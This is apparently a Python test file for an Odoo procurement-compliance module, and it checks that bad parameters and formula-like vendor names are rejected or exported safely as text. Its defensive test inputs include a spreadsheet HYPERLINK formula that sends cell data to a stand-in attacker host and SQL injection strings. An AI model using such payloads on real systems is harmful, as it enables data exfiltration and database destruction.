"""Bad input gets a clear message, never a traceback (issue 11, items 10
and 11): parameters of JSON-RPC methods and of the XLSX route, and text
cells of the XLSX export."""

import io

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import HttpCase, tagged

from ..tools import params
from .common import ParetoCase

FORMULA = '=HYPERLINK("http://attacker.example/steal?d="&A1,"Click")'
URL = "https://attacker.example/login"


@tagged("post_install", "-at_install")
class TestParameters(ParetoCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.rfq = cls._create_order(cls.vendor_large, [(cls.laptop, 1, 100.0)], confirm=False)
        cls._create_order(cls.vendor_small_local, [(cls.laptop, 1, 100.0)])

    def test_suggestions_limit(self):
        rfq = self.rfq.with_user(self.buyer)
        for limit in ("abc", float("nan"), float("inf"), 2.5, True, -1, [3], "1e400"):
            with (
                self.subTest(limit=limit),
                self.assertRaisesRegex(UserError, r"limit"),
            ):
                rfq.get_pareto_suggestions(limit=limit)
            with self.subTest(limit=limit, panel=True), self.assertRaises(UserError):
                rfq.get_pareto_suggestions_panel(limit=limit)
        self.assertEqual(len(rfq.get_pareto_suggestions(limit="1")), 1)
        self.assertEqual(rfq.get_pareto_suggestions(limit=3.0), rfq.get_pareto_suggestions(3))
        self.assertEqual(rfq.get_pareto_suggestions(limit=None), rfq.get_pareto_suggestions())

    def test_partner_and_company_ids(self):
        rfq = self.rfq.with_user(self.buyer)
        for partner_id in ("abc", "1; DROP TABLE res_partner", 0, -4, 2**40):
            with self.subTest(partner_id=partner_id), self.assertRaises(UserError):
                rfq.action_pareto_replace_vendor(partner_id)
        self.assertEqual(self.rfq.partner_id, self.vendor_large)
        Dashboard = self.env["pareto.compliance.dashboard"].with_user(self.manager)
        with self.assertRaisesRegex(UserError, "company_ids"):
            Dashboard.get_dashboard_data({"company_ids": "abc"})
        with self.assertRaisesRegex(UserError, "company_ids"):
            Dashboard.action_export_xlsx({"company_ids": "1.5"})
        with self.assertRaisesRegex(UserError, "date_from"):
            Dashboard.get_dashboard_data({"period": "custom", "date_from": "2026-02-30"})
        data = Dashboard.get_dashboard_data({"company_ids": ""})
        self.assertEqual(data["options"]["company_ids"], [self.company.id])

    def test_parser(self):
        env = self.env
        self.assertEqual(params.parse_int(env, " 7 ", "n"), 7)
        self.assertEqual(params.parse_int(env, None, "n", default=5), 5)
        self.assertEqual(params.parse_ids(env, "3, 4,5", "ids"), [3, 4, 5])
        self.assertEqual(params.parse_ids(env, [3, "4"], "ids"), [3, 4])
        self.assertEqual(str(params.parse_date(env, "2026-02-28", "day")), "2026-02-28")
        for call in (
            lambda: params.parse_ids(env, "3,,4", "ids"),
            lambda: params.parse_ids(env, "3,x", "ids"),
            lambda: params.parse_date(env, "2026-02-30", "day"),
            lambda: params.parse_date(env, "tomorrow", "day"),
            lambda: params.parse_int(env, 11, "n", maximum=10),
        ):
            with self.subTest(call=call), self.assertRaises(params.InvalidParameter) as caught:
                call()
            self.assertEqual(caught.exception.http_status, 400)


@tagged("post_install", "-at_install")
class TestXlsxTextCells(ParetoCase):
    def test_vendor_names_are_written_as_text(self):
        """A vendor named like a formula or a URL stays text in the export
        (the CSV report already was)."""
        for name in (FORMULA, URL, "+33 1 23 45 67 89", "@SUM(A1:A9)"):
            vendor = self.env["res.partner"].create(
                {"name": name, "is_company": True, "pareto_size": "micro"}
            )
            self._create_order(vendor, [(self.laptop, 1, 100.0)])
        Dashboard = self.env["pareto.compliance.dashboard"]
        content = Dashboard._xlsx_content(Dashboard._scope())
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        for sheet_name in ("Vendors", "Family detail"):
            sheet = workbook[sheet_name]
            header_row = Dashboard.XLSX_HEADER_ROW + 1  # the scope is written above
            header = [cell.value for cell in sheet[header_row]]
            column = header.index("Vendor") + 1
            cells = {
                sheet.cell(row, column).value: sheet.cell(row, column)
                for row in range(header_row + 1, sheet.max_row + 1)
            }
            for name in (FORMULA, URL, "+33 1 23 45 67 89", "@SUM(A1:A9)"):
                with self.subTest(sheet=sheet_name, name=name):
                    self.assertIn(name, cells)
                    self.assertEqual(cells[name].data_type, "s")
                    self.assertIsNone(cells[name].hyperlink)


@tagged("post_install", "-at_install")
class TestXlsxRouteParameters(HttpCase, ParetoCase):
    def test_company_ids_that_are_not_ids_are_a_bad_request(self):
        self.authenticate("pareto_manager", "pareto_manager")
        for value in ("abc", "1.5", "-1", "99999999999", "1%27%20OR%201=1"):
            # Odoo logs the user error of an http route as a warning.
            with self.subTest(company_ids=value), self.assertLogs("odoo.http", "WARNING"):
                response = self.url_open(f"/pareto_odoo/compliance.xlsx?company_ids={value}")
                self.assertEqual(response.status_code, 400)
                self.assertIn("company_ids", response.text)
        with self.assertLogs("odoo.http", "WARNING"):
            response = self.url_open("/pareto_odoo/compliance.xlsx?period=custom&date_from=x")
            self.assertEqual(response.status_code, 400)
        response = self.url_open("/pareto_odoo/compliance.xlsx?company_ids=")
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
